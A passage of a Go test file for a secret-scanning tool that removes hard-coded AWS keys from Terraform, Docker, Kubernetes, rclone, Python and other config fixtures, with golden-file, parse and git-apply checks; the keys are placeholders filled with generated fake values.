host_base = minio.local:9000
host_bucket = minio.local:9000
`},
	{name: "endpoint-terraform", file: "infra/localstack.tf", manual: 4, text: `provider "aws" {
  alias                       = "local"
  access_key                  = "{{ID}}"
  secret_key                  = "{{SECRET}}"
  skip_credentials_validation = true
  endpoints {
    s3 = "http://localhost:4566"
  }
}

provider "aws" {
  alias             = "minio"
  access_key        = "{{ID2}}"
  secret_key        = "{{SECRET2}}"
  s3_use_path_style = true
}

provider "aws" {
  region     = "eu-west-1"
  access_key = "{{ID}}"
  secret_key = "{{SECRET}}"
}
`},
	// qa8 MEDIUM-4: the S3 backend of Terraform 1.6 takes its endpoints as
	// an attribute map and path style as use_path_style; R2 asks for
	// skip_requesting_account_id.
	{name: "endpoint-terraform-backend-map", file: "infra/backend.tf", manual: 2, text: `terraform {
  backend "s3" {
    bucket     = "tf-state"
    key        = "prod.tfstate"
    region     = "us-east-1"
    endpoints  = { s3 = "https://minio.example.com" }
    access_key = "{{ID}}"
    secret_key = "{{SECRET}}"
  }
}
`},
	{name: "endpoint-terraform-backend-map-lines", file: "infra/state.tf", manual: 2, text: `terraform {
  backend "s3" {
    bucket     = "tf-state"
    key        = "prod.tfstate"
    region     = "auto"
    endpoints = {
      s3 = "https://acct.r2.cloudflarestorage.com"
    }
    access_key = "{{ID}}"
    secret_key = "{{SECRET}}"
  }
}
`},
	{name: "endpoint-terraform-backend-path-style", file: "infra/remote.tf", manual: 4, text: `terraform {
  backend "s3" {
    bucket         = "tf-state"
    key            = "prod.tfstate"
    region         = "us-east-1"
    access_key     = "{{ID}}"
    secret_key     = "{{SECRET}}"
    use_path_style = true
  }
}

provider "aws" {
  region                     = "auto"
  access_key                 = "{{ID2}}"
  secret_key                 = "{{SECRET2}}"
  skip_requesting_account_id = true
}
`},
	// The provider never asks the metadata service: without the keys it
	// has no credentials (clouds' note on qa8 MEDIUM-4).
	{name: "terraform-skip-metadata", file: "infra/main.tf", manual: 2, text: `provider "aws" {
  region                  = "us-east-1"
  access_key              = "{{ID}}"
  secret_key              = "{{SECRET}}"
  skip_metadata_api_check = true
}
`},
	{name: "endpoint-env", file: "deploy/.env", manual: 2, text: `AWS_ENDPOINT_URL=http://minio.local:9000
AWS_ACCESS_KEY_ID={{ID}}
AWS_SECRET_ACCESS_KEY={{SECRET}}
`},
	{name: "endpoint-shell", file: "scripts/sync.sh", manual: 2, text: `#!/bin/sh
export AWS_ACCESS_KEY_ID={{ID}}
export AWS_SECRET_ACCESS_KEY={{SECRET}}
aws --endpoint-url http://minio.local:9000 s3 sync ./out s3://bucket
`},
	{name: "endpoint-dockerfile", file: "Dockerfile", manual: 2, text: `FROM python:3.12
ENV S3_ENDPOINT=http://minio:9000 \
    AWS_ACCESS_KEY_ID={{ID}} \
    AWS_SECRET_ACCESS_KEY={{SECRET}}
CMD ["python", "app.py"]
`},
	{name: "endpoint-compose", file: "docker-compose.yml", manual: 2, text: `services:
  app:
    image: app
    environment:
      S3_ENDPOINT: http://minio:9000
      AWS_ACCESS_KEY_ID: {{ID}}
      AWS_SECRET_ACCESS_KEY: {{SECRET}}
  worker:
    image: worker
    environment:
      - AWS_ACCESS_KEY_ID={{ID2}}
      - AWS_SECRET_ACCESS_KEY={{SECRET2}}
      - AWS_REGION=eu-west-1
`},
	// A commented-out Dockerfile ENV/ARG is removed like other commented
	// keys; a comment that says something else stays for a person.
	{name: "commented-dockerfile", file: "Dockerfile", manual: 1, text: `FROM alpine:3.20
# ENV AWS_ACCESS_KEY_ID={{ID}}
#ENV AWS_SECRET_ACCESS_KEY="{{SECRET}}"
# ARG AWS_SESSION_TOKEN={{TOKEN}}
#   ENV AWS_SECRET_ACCESS_KEY {{SECRET2}}
ENV APP_ENV=prod \
# AWS_ACCESS_KEY_ID={{ID2}} \
    LOG_LEVEL=info
# the old key {{ID}} was rotated
RUN echo ok
`},
	{name: "endpoint-json", file: "config/storage.json", manual: 2, text: `{
  "storage": {
    "endpoint": "http://minio.local:9000",
    "accessKeyId": "{{ID}}",
    "secretAccessKey": "{{SECRET}}"
  }
}
`},
	{name: "endpoint-k8s", file: "k8s/deploy.yaml", manual: 2, text: `apiVersion: apps/v1
kind: Deployment
spec:
  template:
    spec:
      containers:
        - name: app
          env:
            - name: AWS_ENDPOINT_URL_S3
              value: http://minio.minio.svc:9000
            - name: AWS_ACCESS_KEY_ID
              value: {{ID}}
            - name: AWS_SECRET_ACCESS_KEY
              value: {{SECRET}}
`},
	{name: "js-endpoint-v2", file: "lib/minio.js", manual: 8, text: `const AWS = require("aws-sdk");

const s3 = new AWS.S3({ endpoint: new AWS.Endpoint("http://minio.local:9000"), s3ForcePathStyle: true, accessKeyId: "{{ID}}", secretAccessKey: "{{SECRET}}" });
AWS.config.update({ accessKeyId: "{{ID2}}", secretAccessKey: "{{SECRET2}}" });
AWS.config.credentials = new AWS.Credentials("{{ID2}}", "{{SECRET2}}");
const ceph = new AWS.S3({ endpointProvider: provider, credentials: new AWS.Credentials("{{ID}}", "{{SECRET}}") });
module.exports = { s3, ceph };
`},
	// qa7 LOW-17: a credentials file is recognised by its content under any
	// name, not only under the extensions a credentials copy usually has.
	{name: "name-prod-credentials", file: "prod.credentials", text: "[default]\naws_access_key_id = {{ID}}\naws_secret_access_key = {{SECRET}}\n"},
	{name: "name-credentials-prod", file: "deploy/credentials.prod", text: "# production\n[default]\naws_access_key_id = {{ID}}\naws_secret_access_key = {{SECRET}}\nregion = eu-west-1\n"},
	{name: "name-team-keys", file: "ops/team.keys", text: "[profile ci]\r\nregion = eu-west-1\r\ns3 =\r\n    max_concurrent_requests = 20\r\naws_access_key_id={{ID}}\r\naws_secret_access_key={{SECRET}}\r\n"},
	{name: "name-credentials-2024", file: "aws.credentials.2024-01", text: "[old]\naws_access_key_id = {{ID}}\naws_secret_access_key = {{SECRET}}\n\n[new]\nregion = us-east-1\n"},
	// qa8 LOW-4: Terraform's comment is written only in Terraform's own
	// blocks; a Nomad job's env, a Terraform local or module argument are
	// read by something keyscan does not see and stay for a person.
	{name: "hcl-nomad", file: "jobs/app.nomad.hcl", manual: 2, text: `job "app" {
  group "g" {
    task "t" {
      env {
        AWS_ACCESS_KEY_ID     = "{{ID}}"
        AWS_SECRET_ACCESS_KEY = "{{SECRET}}"
      }
    }
  }
}
`},
	{name: "terraform-backend", file: "infra/backend.tf", text: `terraform {
  backend "s3" {
    bucket     = "state"
    key        = "prod.tfstate"
    region     = "us-east-1"
    access_key = "{{ID}}"
    secret_key = "{{SECRET}}"
  }
}
`},
	{name: "terraform-locals", file: "infra/locals.tf", manual: 4, text: `locals {
  aws_access_key = "{{ID}}"
  aws_secret_key = "{{SECRET}}"
}

module "uploader" {
  source     = "./uploader"
  access_key = "{{ID2}}"
  secret_key = "{{SECRET2}}"
}
`},
	{name: "tfvars", file: "infra/prod.tfvars", text: "region = \"us-east-1\"\naws_access_key = \"{{ID}}\"\naws_secret_key = \"{{SECRET}}\"\n"},
	// qa8 LOW-4: a key inside a URL stays for a person in every file kind:
	// deleting the setting would lose the rest of the URL.
	{name: "url-env", file: "deploy/airflow.env", manual: 1, text: "AIRFLOW_CONN_AWS_DEFAULT=aws://{{ID}}:@/?region_name=us-east-1\nAWS_DEFAULT_REGION=us-east-1\n"},
	{name: "url-yaml", file: "deploy/values.yaml", manual: 1, text: "env:\n  AIRFLOW_CONN_AWS_DEFAULT: aws://{{ID}}:@/?region_name=us-east-1\n  LOG: info\n"},
	{name: "url-json", file: "deploy/conn.json", manual: 1, text: "{\"aws_conn\": \"aws://{{ID}}:@/?region_name=us-east-1\", \"log\": \"info\"}\n"},
	{name: "url-dockerfile", file: "Dockerfile", manual: 1, text: "FROM apache/airflow:2.9.0\nENV AIRFLOW_CONN_AWS_DEFAULT=aws://{{ID}}:@/?region_name=us-east-1\n"},
	// qa8 LOW-4: programs that do not fall back to the instance role
	// without a setting of theirs get it with the fix (rclone's env_auth,
	// Grafana's authType) or keep their keys for a person.
	{name: "rclone-env-auth", file: "home/.config/rclone/rclone.conf", text: `[s3]
type = s3
provider = AWS
access_key_id = {{ID}}
secret_access_key = {{SECRET}}
region = us-east-1

[backup]
type = s3
provider = AWS
env_auth = false
access_key_id = {{ID2}}
secret_access_key = {{SECRET2}}
`},
	// qa12 LOW-3: an rclone remote whose provider is not AWS talks to that
	// service without an endpoint line; a remote with no provider is AWS's.
	{name: "rclone-provider", file: "home/.config/rclone/rclone.conf", manual: 4, text: `[wasabi]
type = s3
provider = Wasabi
access_key_id = {{ID}}
secret_access_key = {{SECRET}}
region = us-east-1

[r2]
type = s3
provider = "Cloudflare"
access_key_id = {{ID}}
secret_access_key = {{SECRET}}

[plain]
type = s3
access_key_id = {{ID2}}
secret_access_key = {{SECRET2}}
`},
	{name: "rclone-environment", file: "scripts/sync.sh", manual: 2, text: `#!/bin/sh
export RCLONE_CONFIG_S3_TYPE=s3
export RCLONE_CONFIG_S3_ACCESS_KEY_ID={{ID}}
export RCLONE_CONFIG_S3_SECRET_ACCESS_KEY={{SECRET}}
rclone sync ./out s3:bucket/out
`},
	{name: "rclone-k8s-env", file: "k8s/rclone.yaml", manual: 2, text: `apiVersion: v1
kind: Pod
metadata:
  name: sync
spec:
  containers:
    - name: rclone
      image: rclone/rclone
      env:
        - name: RCLONE_S3_ACCESS_KEY_ID
          value: {{ID}}
        - name: RCLONE_S3_SECRET_ACCESS_KEY
          value: {{SECRET}}
`},
	{name: "grafana-cloudwatch", file: "provisioning/datasources/cloudwatch.yaml", text: `apiVersion: 1
datasources:
  - name: CloudWatch
    type: cloudwatch
    jsonData:
      authType: keys
      defaultRegion: us-east-1
    secureJsonData:
      accessKey: {{ID}}
      secretKey: {{SECRET}}
  - name: Athena
    type: grafana-athena-datasource
    secureJsonData:
      accessKey: {{ID2}}
      secretKey: {{SECRET2}}
    jsonData:
      authType: "keys"
`},
	// qa8 LOW-4: a key ID whose secret stands beside it, written so that
	// keyscan did not read it, stays with it; a secret that is a reference
	// is no secret, and the ID goes.
	{name: "pair-unread-properties", file: "src/main/resources/application.properties", manual: 1, text: "aws.accessKeyId={{ID}}\naws.secretKey=split-value-keyscan-cannot-read\nserver.port=8080\n"},
	{name: "pair-unread-k8s", file: "k8s/app.yaml", manual: 1, text: `apiVersion: v1
kind: Pod
metadata:
  name: app
spec:
  containers:
    - name: app
      image: app:1
      env:
        - name: AWS_ACCESS_KEY_ID
          value: {{ID}}
        - name: AWS_SECRET_ACCESS_KEY
          value: split-value-keyscan-cannot-read
`},
	{name: "pair-reference", file: "deploy/.env", text: "AWS_ACCESS_KEY_ID={{ID}}\nAWS_SECRET_ACCESS_KEY=${SECRET_FROM_VAULT}\n"},
	// qa8 LOW-2: a secret cut by a backslash line continuation is found and
	// removed with all its lines; one written as "abc"'def' in a shell
	// script too.
	{name: "continued-properties", file: "src/main/resources/application.properties", text: "aws.accessKeyId={{ID}}\naws.secretKey={{SECRET_HEAD}}\\\n    {{SECRET_TAIL}}\nserver.port=8080\n"},
	{name: "continued-shell", file: "scripts/env.sh", text: "#!/bin/sh\nexport AWS_ACCESS_KEY_ID=\"{{ID}}\"\nexport AWS_SECRET_ACCESS_KEY=\"{{SECRET_HEAD}}\\\n{{SECRET_TAIL}}\"\naws s3 ls\n"},
	{name: "juxtaposed-shell", file: "scripts/juxt.sh", text: "#!/bin/sh\nexport AWS_ACCESS_KEY_ID=\"{{ID}}\"\nexport AWS_SECRET_ACCESS_KEY=\"{{SECRET_HEAD}}\"'{{SECRET_TAIL}}'\naws s3 ls\n"},
	// In code and JSON too: a client given a secret without its key ID fails
	// ("partial credentials"), so the ID stays with a secret left by hand.
	{name: "pair-python-variable", file: "app/upload.py", manual: 2, text: `import boto3

SECRET = "{{SECRET}}"
s3 = boto3.client("s3", aws_access_key_id="{{ID}}", aws_secret_access_key=SECRET)
`},
	{name: "pair-json-longer-text", file: "config/aws.json", manual: 2, text: `{
  "accessKeyId": "{{ID}}",
  "secretAccessKey": "{{SECRET}} (rotated monthly)",
  "region": "us-east-1"
}
`},
	// qa8 LOW-4: a secret written as a block scalar is removed with its key,
	// as a plain one is.
	{name: "yaml-block-secret", file: "config/app.yaml", text: `aws:
  aws_access_key_id: {{ID}}
  aws_secret_access_key: |
    {{SECRET}}
  region: us-east-1
log: info
`},
	{name: "yaml-folded-secret", file: "config/folded.yaml", text: `aws_access_key_id: {{ID}}
aws_secret_access_key: >-
  {{SECRET}}
region: us-east-1
`},
	// qa10 HIGH-2: a profile whose services = NAME names a [services NAME]
	// section with a custom endpoint keeps its keys; one whose services
	// section names AWS's endpoints, and one with only AWS's boolean
	// endpoint settings (use_dualstack_endpoint), lose them.
	{name: "endpoint-aws-services", file: "home/.aws/config", manual: 2, text: `[profile minio]
region = us-east-1
services = minio-local
aws_access_key_id = {{ID}}
aws_secret_access_key = {{SECRET}}

[profile fips]
services = aws-fips
use_dualstack_endpoint = true
aws_access_key_id = {{ID2}}
aws_secret_access_key = {{SECRET2}}

[services minio-local]
s3 =
  endpoint_url = http://minio.internal:9000

[services aws-fips]
s3 =
  endpoint_url = https://s3-fips.us-east-1.amazonaws.com
`},
	// qa11 LOW-6: a comment line between the arguments stays; a removed
	// argument's trailing comment goes with it; CRLF line endings hold.
	{name: "python-comments", file: "app/handler.py", text: "import boto3\r\n\r\ndef handler(event, ctx):\r\n    s3 = boto3.client(\r\n        \"s3\",\r\n        # credentials for prod\r\n        aws_access_key_id=\"{{ID}}\",  # noqa\r\n        # the secret\r\n        aws_secret_access_key=\"{{SECRET}}\"  # noqa\r\n    )\r\n    db = boto3.resource(\r\n        \"dynamodb\",\r\n        aws_access_key_id=\"{{ID2}}\",  # first\r\n        # region below\r\n        aws_secret_access_key=\"{{SECRET2}}\",\r\n        region_name=\"eu-west-1\",  # keep\r\n    )\r\n    return s3, db\r\n"},
	// qa22 L1: the keys on the call's first line, a comment line below
	// them: the keys go, the comment stays.
	{name: "python-comment-after-keys", file: "app/upload.py", text: "import boto3\n\ns3 = boto3.client(\"s3\", aws_access_key_id=\"{{ID}}\", aws_secret_access_key=\"{{SECRET}}\",\n    # region must match the bucket; see docs/buckets.md\n    region_name=\"eu-west-1\")\ndb = boto3.resource(aws_access_key_id=\"{{ID2}}\", aws_secret_access_key=\"{{SECRET2}}\",  \n\n    # the table's region\n    service_name=\"dynamodb\", region_name=\"eu-west-1\")\n"},
	{name: "js-comments", file: "src/comments.js", text: `const { S3Client } = require("@aws-sdk/client-s3");
const s3 = new S3Client({
  region: "eu-west-1",
  credentials: {
    // prod keys
    accessKeyId: "{{ID}}", // prod
    /* the secret */
    secretAccessKey: "{{SECRET}}", // prod
  },
  // keep this note
});
module.exports = s3;
`},
	// detect3's leftovers: keys given by position to a session's client,
	// boto3.client, Session and boto 2; a key ID from the environment goes
	// with its secret (botocore refuses half a pair).
	{name: "python-positional", file: "jobs/run.py", text: `import os
import boto3

if __name__ == "__main__":
    session = boto3.session.Session()
    s3 = session.client("s3", "us-east-1", None, True, None, None, os.environ["KEY_ID"], "{{SECRET}}")
    db = boto3.Session(KEY_ID, "{{SECRET2}}").resource("dynamodb")
`},
	{name: "python-positional-manual", file: "jobs/old.py", manual: 4, text: `import boto
import boto3

sqs = boto3.client("sqs", "us-east-1", None, True, None, None, "{{ID2}}", "{{SECRET2}}", None, CONFIG)
legacy = boto.connect_s3("{{ID}}", "{{SECRET}}")
`},
	{name: "python-key-id-from-env", file: "jobs/env.py", text: `import os
import boto3

sns = boto3.client("sns", aws_access_key_id=os.environ["KEY_ID"], aws_secret_access_key="{{SECRET}}", region_name="us-east-1")
`},
	// fixk8s's leftover: GitLab CI jobs GitLab's hosted runners may take
	// (no tags:, saas- tags) keep their keys with the OIDC advice; a job
	// tagged for the project's own runners is fixed.
	{name: "gitlab-hosted", file: "ci/.gitlab-ci.yml", manual: 2, text: `stages: [deploy]

upload:
  stage: deploy
  variables:
    AWS_ACCESS_KEY_ID: "{{ID}}"
    AWS_SECRET_ACCESS_KEY: "{{SECRET}}"
  script:
    - aws s3 sync dist s3://bucket

mirror:
  stage: deploy
  tags: [ec2-deploy]
  variables:
    AWS_ACCESS_KEY_ID: "{{ID2}}"
    AWS_SECRET_ACCESS_KEY: "{{SECRET2}}"
  script:
    - aws s3 sync dist s3://mirror
`},
	// fixk8s's leftover: an endpoint under a name keyscan does not know
	// keeps the keys when its value looks like an S3-compatible service's;
	// another URL beside them does not.
	{name: "endpoint-unknown-name-env", file: "deploy/.env", manual: 2, text: `AWS_ACCESS_KEY_ID={{ID}}
AWS_SECRET_ACCESS_KEY={{SECRET}}
STORAGE_URL=http://minio:9000
`},
	{name: "endpoint-unknown-name-other-url", file: "web/.env", text: `AWS_ACCESS_KEY_ID={{ID}}
AWS_SECRET_ACCESS_KEY={{SECRET}}
API_URL=http://localhost:3000
`},
	{name: "endpoint-unknown-name-docker", file: "Dockerfile", manual: 2, text: `FROM python:3.12
ENV S3_HOST minio.internal
ENV AWS_ACCESS_KEY_ID={{ID}} AWS_SECRET_ACCESS_KEY={{SECRET}}
`},
	{name: "endpoint-unknown-name-k8s", file: "k8s/app.yaml", manual: 2, text: `apiVersion: apps/v1
kind: Deployment
metadata:
  name: app
spec:
  template:
    spec:
      containers:
        - name: app
          image: app:1
          env:
            - name: BLOB_STORE
              value: http://localstack:4566
            - name: AWS_ACCESS_KEY_ID
              value: {{ID}}
            - name: AWS_SECRET_ACCESS_KEY
              value: {{SECRET}}
`},
	{name: "gitlab-default-tags", file: ".gitlab-ci.yml", manual: 2, text: `default:
  tags: [saas-linux-small-amd64]

variables:
  AWS_ACCESS_KEY_ID: "{{ID}}"
  AWS_SECRET_ACCESS_KEY: "{{SECRET}}"

deploy:
  script:
    - aws s3 ls
`},
	// qa12 MEDIUM-1 (d): in a Helm values file an endpoint anywhere (a
	// global: value reaches every subchart) or a bundled MinIO keeps the
	// keys; a bundled MinIO switched off does not.
	{name: "helm-global-endpoint", file: "chart/values.yaml", manual: 2, text: `global:
  s3Endpoint: http://minio:9000
app:
  aws:
    accessKeyId: {{ID}}
    secretAccessKey: {{SECRET}}
`},
	{name: "helm-bundled-minio", file: "chart/values-prod.yaml", manual: 2, text: `minio:
  enabled: true
  mode: standalone
storage:
  accessKeyId: {{ID}}
  secretAccessKey: {{SECRET}}
`},
	{name: "helm-minio-disabled", file: "chart/values.yaml", text: `minio:
  enabled: false
storage:
  bucket: uploads
  accessKeyId: {{ID}}
  secretAccessKey: {{SECRET}}
`},
	// qa12 MEDIUM-14: **MINIO imported from another module may hold
	// endpoint_url; a dict the file writes without one does not.
	{name: "python-kwargs-imported", file: "app/main.py", manual: 2, text: `import boto3
from settings import MINIO


def main():
    s3 = boto3.client("s3", aws_access_key_id="{{ID}}", aws_secret_access_key="{{SECRET}}", **MINIO)
    return s3


if __name__ == "__main__":
    main()
`},
	{name: "python-kwargs-local-dict", file: "app/job.py", text: `import boto3

OPTS = {"region_name": "eu-west-1"}

if __name__ == "__main__":
    s3 = boto3.client("s3", aws_access_key_id="{{ID}}", aws_secret_access_key="{{SECRET}}", **OPTS)
`},
	// qa12 MEDIUM-15: a composite action runs on its callers' runners.
	{name: "github-composite-action", file: ".github/actions/deploy/action.yml", manual: 2, text: `name: deploy
runs:
  using: composite
  steps:
    - run: aws s3 sync . s3://bucket
      shell: bash
      env:
        AWS_ACCESS_KEY_ID: {{ID}}
        AWS_SECRET_ACCESS_KEY: {{SECRET}}
`},
	// qa12 LOW-7: a .env saved with a UTF-8 byte order mark; the mark stays.
	// qa12 MEDIUM-12: another cloud's endpoint beside AWS-named keys: most
	// likely its own client, but maybe theirs: kept, saying so.
	{name: "endpoint-other-cloud-env", file: "multi/.env", manual: 2, text: `AWS_ACCESS_KEY_ID={{ID}}
AWS_SECRET_ACCESS_KEY={{SECRET}}
GCS_ENDPOINT=https://storage.googleapis.com
`},
	{name: "dotenv-bom", file: "app/.env", text: "\ufeffAWS_ACCESS_KEY_ID={{ID}}\nAWS_SECRET_ACCESS_KEY={{SECRET}}\nAPP_ENV=prod\n"},
	// fix29: a mapping that takes its endpoint through a YAML merge key
	// from an anchored block elsewhere in the file is MinIO's; the other
	// client of the file, which merges nothing, is AWS's and is fixed.
	{name: "yaml-merge-endpoint", file: "config/settings.yaml", manual: 2, text: `x-defaults:
  minio: &minio
    endpoint_url: http://minio.internal:9000
    region: us-east-1
app:
  storage:
    s3:
      <<: *minio
      access_key_id: {{ID}}
      secret_access_key: {{SECRET}}
reports:
  export:
    s3:
      access_key_id: {{ID2}}
      secret_access_key: {{SECRET2}}
`},
	// fix29: INI-like files written as TOML split a client into dotted
	// tables: the endpoint in [aws.s3] is [aws]'s client's, and a table
	// named for MinIO ([storage.minio]) is MinIO's whatever it holds.
	{name: "ini-toml-tables", file: "conf/app.ini", manual: 4, text: `[aws]
access_key_id = {{ID}}
secret_access_key = {{SECRET}}

[aws.s3]
endpoint = http://minio.internal:9000

[storage.minio]
aws_access_key_id = {{ID2}}
aws_secret_access_key = {{SECRET2}}
`},
	// fix29: an array of tables whose sub-table sets the endpoint; a
	// table of another object ([billing]) is another client, and fixed.
	{name: "ini-toml-array-tables", file: "app.cfg", manual: 2, text: `[[storage]]
name = "backups"
access_key_id = "{{ID}}"
secret_access_key = "{{SECRET}}"

[storage.options]
endpoint = "http://minio.internal:9000"

[billing]
aws_access_key_id = {{ID2}}
aws_secret_access_key = {{SECRET2}}
`},
	// qa25 L1: another credential under a name that says AWS (a Cognito
	// app client's secret, an API Gateway API key) stays: the instance
	// role does not replace it. The key pair beside it goes.
	{name: "env-aws-other-credential", file: ".env", text: `AWS_REGION=us-east-1
AWS_ACCESS_KEY_ID={{ID}}
AWS_SECRET_ACCESS_KEY={{SECRET}}
AWS_COGNITO_USER_POOL_ID=us-east-1_Ab12Cd34E
AWS_COGNITO_CLIENT_SECRET={{SECRET2}}
`},
	{name: "compose-aws-other-credential", file: "docker-compose.yml", text: `services:
  api:
    image: api:1
    environment:
      AWS_ACCESS_KEY_ID: {{ID}}
      AWS_SECRET_ACCESS_KEY: {{SECRET}}
      AWS_API_GATEWAY_API_KEY: {{SECRET2}}
      AWS_SNS_WEBHOOK_SECRET: {{SECRET2}}
`},
	// A key ID with no secret of its own beside a 40-character value
	// under such a name: that value is its secret, misnamed, and goes
	// with it.
	{name: "env-aws-other-credential-paired", file: ".env", text: `AWS_ACCESS_KEY_ID={{ID}}
AWS_COGNITO_CLIENT_SECRET={{SECRET}}
`},
	// qa26 M5: a platform with no EC2 instance role keeps its keys, with
	// its own advice.
	{name: "platform-render", file: "render.yaml", manual: 2, text: `services:
  - type: web
    name: app
    runtime: node
    envVars:
      - key: AWS_ACCESS_KEY_ID
        value: {{ID}}
      - key: AWS_SECRET_ACCESS_KEY
        value: {{SECRET}}
`},
	{name: "platform-cloudrun", file: "deploy/service.yaml", manual: 2, text: `apiVersion: serving.knative.dev/v1
kind: Service
metadata:
  name: app
spec:
  template:
    spec:
      containers:
        - image: gcr.io/p/app
          env:
            - name: AWS_ACCESS_KEY_ID
              value: {{ID}}
            - name: AWS_SECRET_ACCESS_KEY
              value: {{SECRET}}
`},
}

func TestFixGolden(t *testing.T) {
	sc := fixture.Scanner(t)
	for i, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			vals := fakekey.New(uint64(100 + i)).Values()
			in := []byte(rules.Fill(tc.text, vals))
			fs := sc.Scan(tc.file, in)
			if len(fs) == 0 {
				t.Fatal("the scanner finds nothing in the fixture")
			}
			res, err := fix.Apply(tc.file, in, fs)
			if err != nil {
				t.Fatal(err)
			}
			if len(res.Manual) != tc.manual {
				t.Errorf("%d findings left for a person, want %d: %v", len(res.Manual), tc.manual, res.Manual)
			}
			// The fixed file holds no key keyscan reports, except those left by hand.
			after := sc.Scan(tc.file, res.Content)
			if len(after) != len(res.Manual) {
				t.Errorf("after the fix keyscan finds %d keys, want %d:\n%s", len(after), len(res.Manual), res.Content)
			}
			checkParses(t, tc.file, in, res.Content)
			checkLineEndings(t, in, res.Content)

			var out strings.Builder
			out.WriteString(fix.Unified(tc.file, in, res.Content))
			for _, m := range res.Manual {
				fmt.Fprintf(&out, "manual: %d:%d %s: %s\n", m.Finding.Line, m.Finding.Column, m.Finding.Rule, m.Reason)
			}
			for _, n := range res.Notes {
				fmt.Fprintf(&out, "note: %s\n", n)
			}
			golden(t, tc.name+".golden", placeholders(out.String(), vals))
		})
	}
}

// placeholders puts the template names back in place of the generated
// values, so that goldens show no key and read like the templates.
func placeholders(s string, vals map[string]string) string {
	names := make([]string, 0, len(vals))
	for k := range vals {
		names = append(names, k)
	}
	sort.Slice(names, func(i, j int) bool { return len(vals[names[i]]) > len(vals[names[j]]) })
	for _, k := range names {
		s = strings.ReplaceAll(s, vals[k], "{{"+k+"}}")
	}
	return s
}

func golden(t *testing.T, name, got string) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *update {
		if err := os.WriteFile(path, []byte(got), 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (go test -update creates it)", err)
	}
	if diff := cmp.Diff(string(want), got); diff != "" {
		t.Errorf("%s differs (-want +got); go test -update rewrites it:\n%s", name, diff)
	}
}

// checkParses parses the fixed file with a real parser for its syntax.
func checkParses(t *testing.T, name string, before, after []byte) {
	t.Helper()
	switch fix.Detect(name, after) {
	case fix.YAML:
		dec := yaml.NewDecoder(bytes.NewReader(after))
		for {
			var v any
			err := dec.Decode(&v)
			if errors.Is(err, io.EOF) {
				break
			}
			if err != nil {
				t.Errorf("fixed YAML does not parse: %v\n%s", err, after)
				return
			}
			checkNoNull(t, v, "")
			checkShellValues(t, v, "")
		}
	case fix.JSON:
		if !json.Valid(after) {
			t.Errorf("fixed JSON does not parse:\n%s", after)
		}
	case fix.Env:
		if bashOK(t, string(before)) {
			if !bashOK(t, string(after)) {
				t.Errorf("the fixed script does not pass bash -n:\n%s", after)
			}
		}
	case fix.Dockerfile:
		checkDockerfile(t, before, after)
	case fix.Python:
		checkTool(t, name, before, after, "python3", "-m", "py_compile")
	case fix.JavaScript:
		if strings.HasSuffix(name, ".js") || strings.HasSuffix(name, ".mjs") || strings.HasSuffix(name, ".cjs") {
			checkTool(t, name, before, after, "node", "--check")
		}
	case fix.HCL:
		if _, diags := hclparse.NewParser().ParseHCL(after, name); diags.HasErrors() {
			t.Errorf("fixed HCL does not parse: %v\n%s", diags, after)
		}
	case fix.INI:
		f, err := ini.Load(after)
		if err != nil {
			t.Errorf("fixed INI does not parse: %v\n%s", err, after)
			return
		}
		old, _ := ini.Load(before)
		for _, s := range old.SectionStrings() {
			if !slices.Contains(f.SectionStrings(), s) {
				t.Errorf("profile [%s] was removed", s)
			}
		}
	}
}

// checkNoNull fails on a null value: the fix must not leave "env:" with
// nothing under it.
func checkNoNull(t *testing.T, v any, path string) {
	t.Helper()
	switch v := v.(type) {
	case nil:
		t.Errorf("null value at %s", path)
	case map[string]any:
		for k, x := range v {
			checkNoNull(t, x, path+"."+k)
		}
	case []any:
		for i, x := range v {
			checkNoNull(t, x, fmt.Sprintf("%s[%d]", path, i))
		}
	}
}

// checkLineEndings: a CRLF file stays CRLF, an LF file gains no CR.
func checkLineEndings(t *testing.T, before, after []byte) {
	t.Helper()
	crlf := bytes.Count(before, []byte("\r\n")) == bytes.Count(before, []byte("\n"))
	if crlf && bytes.Count(after, []byte("\r\n")) != bytes.Count(after, []byte("\n")) {
		t.Error("a CRLF file lost its CRLF line endings")
	}
	if !bytes.Contains(before, []byte("\r")) && bytes.Contains(after, []byte("\r")) {
		t.Error("a LF file gained a CR")
	}
	if len(before) > 0 && !bytes.HasSuffix(before, []byte("\n")) && bytes.HasSuffix(after, []byte("\n")) {
		t.Error("a file without a final newline gained one")
	}
}

// TestDiffApplies checks that the unified diff is one git apply accepts.
func TestDiffApplies(t *testing.T) {
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("git not installed")
	}
	sc := fixture.Scanner(t)
	dir := t.TempDir()
	git := func(args ...string) {
		t.Helper()
		cmd := exec.Command("git", append([]string{"-c", "user.name=t", "-c", "user.email=t@example.com", "-c", "init.defaultBranch=main", "-c", "commit.gpgsign=false"}, args...)...)
		cmd.Dir = dir
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("git %v: %v\n%s", args, err, out)
		}
	}
	git("init", "-q")
	var patch strings.Builder
	want := map[string][]byte{}
	for i, tc := range cases {
		if tc.manual > 0 {
			continue
		}
		name := fmt.Sprintf("c%02d/%s", i, tc.file)
		in := []byte(rules.Fill(tc.text, fakekey.New(uint64(100+i)).Values()))
		res, err := fix.Apply(name, in, sc.Scan(name, in))
		if err != nil {
			t.Fatal(err)
		}
		p := filepath.Join(dir, filepath.FromSlash(name))
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, in, 0o644); err != nil {
			t.Fatal(err)
		}
		patch.WriteString(fix.Unified(name, in, res.Content))
		want[p] = res.Content
	}
	if err := os.WriteFile(filepath.Join(dir, "fix.patch"), []byte(patch.String()), 0o644); err != nil {
		t.Fatal(err)
	}
	git("apply", "--whitespace=nowarn", "fix.patch")
	for p, content := range want {
		got, err := os.ReadFile(p)
		if err != nil {
			t.Fatal(err)
		}
		if !bytes.Equal(got, content) {
			t.Errorf("%s after git apply differs from the fix", p)
		}
	}
}

func TestUnified(t *testing.T) {
	a := "1\n2\n3\n4\n5\n6\n7\n8\n9\n10\n11\n12\n13\n14\n15\n16\nlast"
	b := strings.Replace(strings.Replace(a, "2\n", "", 1), "\n15", "", 1) + "\n"
	got := fix.Unified("f", []byte(a), []byte(b))
	want := `--- a/f
+++ b/f
@@ -1,5 +1,4 @@
 1
